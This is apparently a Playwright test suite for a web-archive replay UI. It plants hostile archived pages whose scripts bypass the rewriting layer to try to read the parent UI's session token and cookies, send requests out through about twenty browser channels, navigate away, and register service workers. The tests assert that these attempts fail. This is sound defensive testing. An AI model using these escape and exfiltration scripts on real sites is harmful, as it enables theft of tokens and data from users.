/**
 * Attacks of hostile archived pages, in a real browser. The scripts here bypass wombat: they take unwrapped functions
 * of the browser from a fresh frame. So the policies must stop the scripts, since the rewriting cannot.
 *
 * A server on loopback represents the outside, since the browser can reach no other place. The test counts the requests
 * to this server.
 */
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import test from 'node:test';
import type { Frame, Page } from 'playwright-core';
import { makeArchive } from '../archive/trial-archive.ts';
import { newCheckedPage } from './chromium.ts';
import { type SiteFile, storeSite } from './sample-site.ts';
import { replayFrame, type ServedArchive, serveArchive, setStage, TOKEN } from './served-archive.ts';

const stage = setStage();

type Stage = ServedArchive & {
  readonly page: Page;
  readonly frame: Frame;
  readonly outside: string;
  readonly outsideHits: string[];
};

/**
 * Runs code that rewriting does not see, by an `eval` from a list. `realm` is a frame without wombat, which has the
 * browser's own functions, and `own` is the window itself.
 */
const RAW = `
var realm = window[0];
var own = realm.parent;
function make(name, attributes) {
  var element = realm.Document.prototype.createElement.call(document, name);
  for (var key in attributes) realm.Element.prototype.setAttribute.call(element, key, attributes[key]);
  realm.Node.prototype.appendChild.call(document.documentElement, element);
  return element;
}
var outcome = {};
function attempt(name, work) {
  try {
    var result = work();
    outcome[name] = result instanceof Promise || (result && result.then) ? 'pending' : String(result);
    if (result && result.then) result.then(function (value) { outcome[name] = 'worked: ' + value; }, function (error) { outcome[name] = 'refused'; });
  } catch (error) { outcome[name] = 'refused'; }
}
`;

/** The server that represents the outside. */
async function outsideWorld(t: test.TestContext): Promise<{ outside: string; outsideHits: string[] }> {
  const outsideHits: string[] = [];
  const server = createServer((request, response) => {
    outsideHits.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' });
    response.end('outside');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.after(() => {
    server.closeAllConnections();
    server.close();
  });
  return { outside: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, outsideHits };
}

function hostilePage(code: string): string {
  const escaped = encodeURIComponent(RAW + code).replaceAll("'", '%27');
  return `<!doctype html><title>hostile</title><body><iframe></iframe><script>[eval][0](decodeURIComponent('${escaped}'))</script>`;
}

async function staged(t: test.TestContext, script: Script, extra: readonly SiteFile[] = []): Promise<Stage> {
  const { outside, outsideHits } = await outsideWorld(t);
  const archive = await makeArchive(t);
  const origins = await serveArchive(t, archive, stage.uiDirectory);
  const body = hostilePage(script({ ...origins, outside }));
  await storeSite(archive, [{ url: 'https://hostile.example/', body }, ...extra]);
  const { page } = await newCheckedPage(stage.browser, [origins.uiOrigin, origins.replayOrigin]);
  t.after(() => page.context().close());
  await page.addInitScript(`if (window === window.top) { localStorage.token = sessionStorage.token = '${TOKEN}'; }`);
  await page.goto(`${origins.uiOrigin}/web/20200401100000/https://hostile.example/`);
  const frame = await replayFrame(page);
  return { ...origins, page, frame, outside, outsideHits };
}

/** Checks everything that no attack may change. */
function assertUnharmed({ page, uiOrigin, uiRequests, outsideHits }: Stage): void {
  assert.deepEqual(outsideHits, [], 'something went outside');
  const shown = page.url().replace(/#.*$/, '');
  assert.equal(shown, `${uiOrigin}/web/20200401100000/https://hostile.example/`, 'the window went elsewhere');
  assert.deepEqual(
    uiRequests.filter((line) => line.includes('/api/attack')),
    [],
    'the API was reached',
  );
  assert.equal(page.context().pages().length, 1, 'a window was opened');
}

async function settled(frame: Frame): Promise<Record<string, string>> {
  await frame.waitForFunction(
    `typeof outcome !== 'undefined' && Object.keys(outcome).length > 0 && Object.values(outcome).every((value) => value !== 'pending')`,
  );
  return (await frame.evaluate('outcome')) as Record<string, string>;
}

test('a page cannot read secrets of the UI', async (t) => {
  const stage = await staged(
    t,
    () => `
    attempt('parent storage', function () { return realm.top.sessionStorage.token; });
    attempt('parent document', function () { return own.parent.document.body.innerHTML; });
    attempt('parent cookie', function () { return realm.top.document.cookie; });
    attempt('frame element', function () { return own.frameElement.ownerDocument.title; });
    attempt('opener', function () { return own.opener.document.title; });
    attempt('own storage', function () { return [realm.localStorage.getItem('token'), realm.sessionStorage.getItem('token')].join(); });
    attempt('own cookies', function () { return realm.document.cookie; });
  `,
  );
  assert.deepEqual(await settled(stage.frame), {
    'parent storage': 'refused',
    'parent document': 'refused',
    'parent cookie': 'refused',
    'frame element': 'refused',
    opener: 'refused',
    'own storage': ',',
    'own cookies': '',
  });
  assertUnharmed(stage);
});

type Script = (origins: { uiOrigin: string; replayOrigin: string; outside: string }) => string;

const SENDERS: Script = ({ uiOrigin, outside }) => `
    [['api', '${uiOrigin}/api/attack'], ['outside', '${outside}/x']].forEach(function (pair) {
      var name = pair[0], url = pair[1];
      attempt('fetch ' + name, function () { return realm.fetch(url, { mode: 'no-cors', method: 'POST', body: 'x' }); });
      attempt('beacon ' + name, function () { realm.Navigator.prototype.sendBeacon.call(navigator, url, 'x'); return 'tried'; });
      attempt('xhr ' + name, function () { return new Promise(function (resolve, reject) { var request = new realm.XMLHttpRequest(); request.onload = resolve; request.onerror = reject; request.open('POST', url); request.send(); }); });
      attempt('image ' + name, function () { return new Promise(function (resolve, reject) { var image = make('img', { src: url }); image.onload = resolve; image.onerror = reject; }); });
      attempt('script ' + name, function () { return new Promise(function (resolve, reject) { var script = make('script', { src: url }); script.onload = resolve; script.onerror = reject; }); });
      attempt('style ' + name, function () { return new Promise(function (resolve, reject) { var style = make('link', { rel: 'stylesheet', href: url }); style.onload = resolve; style.onerror = reject; }); });
      attempt('module ' + name, function () { return realm.eval('import("' + url + '")'); });
      attempt('socket ' + name, function () { return new Promise(function (resolve, reject) { var socket = new realm.WebSocket(url.replace('http', 'ws')); socket.onopen = resolve; socket.onerror = reject; }); });
      attempt('events ' + name, function () { return new Promise(function (resolve, reject) { var events = new realm.EventSource(url); events.onopen = resolve; events.onerror = reject; }); });
      attempt('worker ' + name, function () { return new Promise(function (resolve, reject) { var worker = new realm.Worker(url); worker.onmessage = resolve; worker.onerror = reject; }); });
      attempt('object ' + name, function () { make('object', { data: url }); make('embed', { src: url }); return 'tried'; });
      attempt('frame ' + name, function () { make('iframe', { src: url }); return 'tried'; });
      attempt('hints ' + name, function () { ['prefetch', 'preload', 'prerender', 'modulepreload', 'manifest', 'icon'].forEach(function (rel) { make('link', { rel: rel, href: url, as: 'script' }); }); return 'tried'; });
      attempt('rules ' + name, function () { var script = make('script', { type: 'speculationrules' }); realm.Node.prototype.appendChild.call(document.documentElement, script); script.text = JSON.stringify({ prefetch: [{ source: 'list', urls: [url], eagerness: 'immediate' }] }); return 'tried'; });
      attempt('media ' + name, function () { make('video', { src: url, poster: url, autoplay: '' }); make('audio', { src: url, preload: 'auto' }); return 'tried'; });
      attempt('css ' + name, function () { make('style', {}).textContent = '@import "' + url + '"; body { background: url(' + url + ') } @font-face { font-family: q; src: url(' + url + ') } body { font-family: q }'; return 'tried'; });
      attempt('ping ' + name, function () { var link = make('a', { href: '#x', ping: url }); realm.HTMLElement.prototype.click.call(link); return 'tried'; });
      attempt('data frame ' + name, function () { make('iframe', { src: 'data:text/html,<img src="' + url + '"><script>fetch("' + url + '")<' + '/script>' }); return 'tried'; });
      attempt('document frame ' + name, function () { make('iframe', { srcdoc: '<img src="' + url + '"><meta http-equiv="refresh" content="0; url=' + url + '">' }); return 'tried'; });
      attempt('blob frame ' + name, function () { make('iframe', { src: realm.URL.createObjectURL(new realm.Blob(['<img src="' + url + '"><script>location="' + url + '"<' + '/script>'], { type: 'text/html' })) }); return 'tried'; });
    });
  `;

test('a page cannot send requests outside or to the API', async (t) => {
  const stage = await staged(t, SENDERS);
  const outcome = await settled(stage.frame);
  const worked = Object.entries(outcome).filter(([, value]) => value !== 'refused' && value !== 'tried');
  assert.deepEqual(worked, []);
  assert.equal(Object.keys(outcome).length, 40);
  await stage.page.waitForLoadState('networkidle');
  assertUnharmed(stage);
});

test('a worker that runs a script of replay cannot be made to send requests outside', async (t) => {
  const stage = await staged(
    t,
    ({ replayOrigin, outside }) => `
    ['wombat', 'wombatWorkers', 'autoFetchWorker', 'pinakes-replay'].forEach(function (name) {
      attempt(name, function () {
        var worker = new realm.Worker('${replayOrigin}/static/' + name + '.js');
        worker.postMessage({ type: 'fetch-all', values: ['${outside}/leak', { url: '${outside}/leak', options: { mode: 'no-cors', method: 'POST', body: 'x' } }] });
        return 'tried';
      });
    });
  `,
  );
  await stage.page.waitForLoadState('networkidle');
  assert.equal(Object.keys(await settled(stage.frame)).length, 4);
  assertUnharmed(stage);
});

for (const modifier of ['', 'mp_', 'if_', 'fr_', 'js_', 'esm_', 'cs_', 'im_', 'oe_', 'wkr_', 'wkrm_', 'wkrf_']) {
  test(`a page that is opened in a window, requested as "${modifier}", is redirected into the frame`, async (t) => {
    const stage = await staged(t, ({ outside }) => `own.location = '${outside}/away'; outcome.ready = 'tried';`);
    const { page, uiOrigin, replayOrigin, outsideHits } = stage;
    await page.goto(`${replayOrigin}/web/20200401100000${modifier}/https://hostile.example/`);
    await page.waitForLoadState('networkidle');
    assert.equal(new URL(page.url()).origin, uiOrigin);
    assert.deepEqual(outsideHits, [], 'something went outside');
  });
}

const FORMS: Script = ({ uiOrigin, outside }) => `
    ['${uiOrigin}/api/attack', '${outside}/form'].forEach(function (url) {
      ['', '_top', '_blank', '_parent'].forEach(function (target) {
        attempt(url + target, function () { var form = make('form', { method: 'post', action: url, target: target }); realm.HTMLFormElement.prototype.submit.call(form); return 'tried'; });
      });
    });
  `;

test('forms cannot be posted outside or to the API', async (t) => {
  const stage = await staged(t, FORMS);
  await stage.page.waitForLoadState('networkidle');
  assertUnharmed(stage);
});

const NAVIGATIONS: Readonly<Record<string, string>> = {
  'location of the frame': `own.location = target;`,
  'location.replace': `own.location.replace(target);`,
  'meta refresh': `make('meta', { 'http-equiv': 'refresh', content: '0; url=' + target });`,
  'a link that is clicked': `realm.HTMLElement.prototype.click.call(make('a', { href: target }));`,
  'location of the window': `attempt('top', function () { realm.top.location = target; }); attempt('top href', function () { realm.top.location.href = target; });`,
  'a link to the topmost window': `realm.HTMLElement.prototype.click.call(make('a', { href: target, target: '_top' }));`,
  'a link to a new window': `realm.HTMLElement.prototype.click.call(make('a', { href: target, target: '_blank' }));`,
  'window.open': `attempt('open', function () { return realm.open(target); }); attempt('open top', function () { return realm.open(target, '_top'); });`,
  'a document written anew': `realm.Document.prototype.write.call(document, '<meta http-equiv="refresh" content="0; url=' + target + '">'); realm.Document.prototype.close.call(document);`,
};

for (const [name, code] of Object.entries(NAVIGATIONS)) {
  test(`${name} does not lead outside`, async (t) => {
    const stage = await staged(
      t,
      ({ outside }) =>
        `var target = '${outside}/away'; setTimeout(function () { ${code} }, 0); outcome.ready = 'tried';`,
    );
    await stage.page.waitForLoadState('networkidle');
    assertUnharmed(stage);
  });
}

test('archived pages cannot put the UI into a frame', async (t) => {
  const stage = await staged(
    t,
    ({ uiOrigin }) =>
      `make('iframe', { src: '${uiOrigin}/web/20200401100000/https://framed.example/' }); outcome.ready = 'tried';`,
  );
  await stage.page.waitForLoadState('networkidle');
  assert.ok(stage.uiRequests.every((line) => !line.includes('framed.example')));
  assertUnharmed(stage);
});

test('no service worker can be registered, from any place of the archive', async (t) => {
  const script: SiteFile = {
    url: 'https://hostile.example/sw.js',
    type: 'text/javascript',
    body: 'self.onfetch = function () {}',
  };
  const stage = await staged(
    t,
    ({ replayOrigin }) => `
    var container = realm.Navigator.prototype.__lookupGetter__('serviceWorker').call(navigator);
    ['sw_', 'js_', 'mp_', 'id_', 'wkrf_'].forEach(function (modifier) {
      attempt(modifier, function () { return realm.ServiceWorkerContainer.prototype.register.call(container, '${replayOrigin}/web/20200401100000' + modifier + '/https://hostile.example/sw.js'); });
    });
    attempt('static', function () { return realm.ServiceWorkerContainer.prototype.register.call(container, '${replayOrigin}/static/wombat.js', { scope: '/web/' }); });
    attempt('blob', function () { return realm.ServiceWorkerContainer.prototype.register.call(container, realm.URL.createObjectURL(new realm.Blob(['1'], { type: 'text/javascript' }))); });
  `,
    [script],
  );
  const outcome = await settled(stage.frame);
  assert.deepEqual(new Set(Object.values(outcome)), new Set(['refused']));
  assert.equal(Object.keys(outcome).length, 7);
  assertUnharmed(stage);
});

test('messages to the UI can change the address that it shows, and nothing else', async (t) => {
  const stage = await staged(
    t,
    ({ outside }) => `
    var title = '<img data-attack src="${outside}/title" onerror="document.title = 1"><script data-attack>document.title = 2<' + '/script>';
    [null, 1, 'x', [], {}, { wb_type: 'load' }, { wb_type: 'load', url: 'javascript:document.title=3', ts: '20200401100000', title: title },
      { wb_type: 'load', url: '${outside}/moved', ts: '20200401100000', title: title }, { wb_type: 'replace-url', url: 'https://hostile.example/', ts: '../../../api', title: title },
      { wb_type: 'title', title: title }, { wb_type: 'load', url: 'https://hostile.example/', ts: '20200401100000', title: title, icons: [{ rel: 'icon', href: '${outside}/icon' }] }
    ].forEach(function (message) { realm.top.postMessage(message, '*'); own.parent.postMessage(message, '*'); });
    outcome.ready = 'tried';
  `,
  );
  await settled(stage.frame);
  await stage.page.waitForLoadState('networkidle');
  assert.equal(await stage.page.evaluate(`document.querySelectorAll('[data-attack]').length`), 0);
  assert.equal(new URL(stage.page.url()).origin, stage.uiOrigin);
  assert.deepEqual(stage.outsideHits, []);
  assert.doesNotMatch(await stage.page.title(), /^[123]$/);
});

test('cookies that a page sets are not stored in the browser', async (t) => {
  const stage = await staged(
    t,
    () =>
      `document.cookie = 'a=b; path=/'; document.cookie = 'c=d; domain=localhost; path=/'; outcome.seen = document.cookie;`,
  );
  assert.deepEqual(await settled(stage.frame), { seen: 'a=b; c=d' });
  assert.deepEqual(await stage.page.context().cookies(), []);
  assertUnharmed(stage);
});

test('cookies that a page sets without wombat are never sent to the UI, and are gone when the window closes', async (t) => {
  const stage = await staged(
    t,
    () => `
    outcome.before = realm.document.cookie;
    var write = realm.Document.prototype.__lookupSetter__('cookie');
    for (var number = 0; number < 60; number++) write.call(document, 'c' + number + '=' + 'x'.repeat(4000) + '; path=/; max-age=31536000');
    outcome.set = typeof write;
  `,
  );
  assert.deepEqual(await settled(stage.frame), { before: '', set: 'function' });
  const { page, uiOrigin } = stage;
  // Together the cookies are longer than a request head may be.
  const reply = await page.goto(`${uiOrigin}/web/20200401100000/https://hostile.example/`);
  assert.equal(reply?.status(), 200);
  assert.equal(reply.request().headers().cookie, undefined);
  assert.equal(await page.evaluate('document.cookie'), '');
  assert.deepEqual(await settled(await replayFrame(page)), { before: '', set: 'function' });
  assertUnharmed(stage);
});

/**
 * Shows the same page on a server without policies. Every attack must work there, or the tests above would prove
 * nothing.
 */
async function unprotected(t: test.TestContext, script: Script): Promise<{ page: Page; outsideHits: string[] }> {
  const { outside, outsideHits } = await outsideWorld(t);
  const server = createServer((request, response) => {
    response.writeHead(200, { 'content-type': 'text/html' });
    response.end(
      request.url === '/page'
        ? hostilePage(script({ uiOrigin: outside, replayOrigin: outside, outside }))
        : '<iframe src="/page"></iframe>',
    );
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.after(() => {
    server.closeAllConnections();
    server.close();
  });
  const { page } = await newCheckedPage(stage.browser, []);
  t.after(() => page.context().close());
  await page.goto(`http://localhost:${(server.address() as AddressInfo).port}/`).catch(() => {});
  await page.waitForLoadState('networkidle').catch(() => {});
  return { page, outsideHits };
}

test('the same attacks work on a server without the policies', async (t) => {
  const sent = await unprotected(t, SENDERS);
  assert.ok(sent.outsideHits.length > 20, `only ${sent.outsideHits.length} requests went out`);
  for (const name of ['location of the frame', 'meta refresh', 'a document written anew']) {
    const code = NAVIGATIONS[name]!;
    const { outsideHits } = await unprotected(t, ({ outside }) => `var target = '${outside}/away'; ${code}`);
    assert.ok(outsideHits.includes('GET /away'), `${name} did not work`);
  }
});
